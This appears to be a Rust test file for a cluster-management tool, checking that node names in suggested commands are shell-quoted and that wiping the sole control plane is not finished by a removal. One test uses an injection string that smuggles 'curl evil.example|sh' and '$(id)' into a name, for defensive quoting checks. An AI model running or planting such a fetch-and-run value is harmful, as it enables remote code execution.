use super::*;

/// What machines and their clusters name is one word of a command that a person copies, whatever is in it.
#[test]
fn a_name_in_a_command_is_one_word_of_it() {
    let name = "a; curl evil.example|sh; 'b $(id)";
    let text = || name.to_owned();
    let remove = |dead| Command::Remove { node: text(), dead };
    let hints = [
        Hint::Run(remove(false)),
        Hint::Run(remove(true)),
        Hint::DropLearner(remove(true)),
        Hint::Rename(remove(true)),
        Hint::ForgetOnly(remove(true)),
        Hint::TurnOnOrRemove(remove(true)),
        Hint::MendMember { member: String::new(), command: remove(true) },
        Hint::Unmount { path: text() },
        Hint::Uncordon(text()),
        Hint::LookAtPod { namespace: text(), pod: text() },
        Hint::DeleteRequest { request: text() },
    ];
    for hint in hints {
        let said = hint.to_string();
        assert!(said.contains(&*shell_word(name)) && !said.replace(&*shell_word(name), "").contains("curl"), "{said}");
    }
}

/// Of the only control plane nothing can be removed while it is one.
#[test]
fn a_wipe_of_the_only_control_plane_is_not_finished_by_a_removal() {
    let machine = MachineName::new("rarity").expect("a name");
    let [restore, rebuild] = [Command::Restore(machine.clone()), Command::Rebuild { machine, take_over: false }];
    assert!(!Hint::FinishWipe(restore).to_string().contains("remove"));
    assert!(Hint::FinishWipe(rebuild).to_string().contains("`hostler remove`"));
}
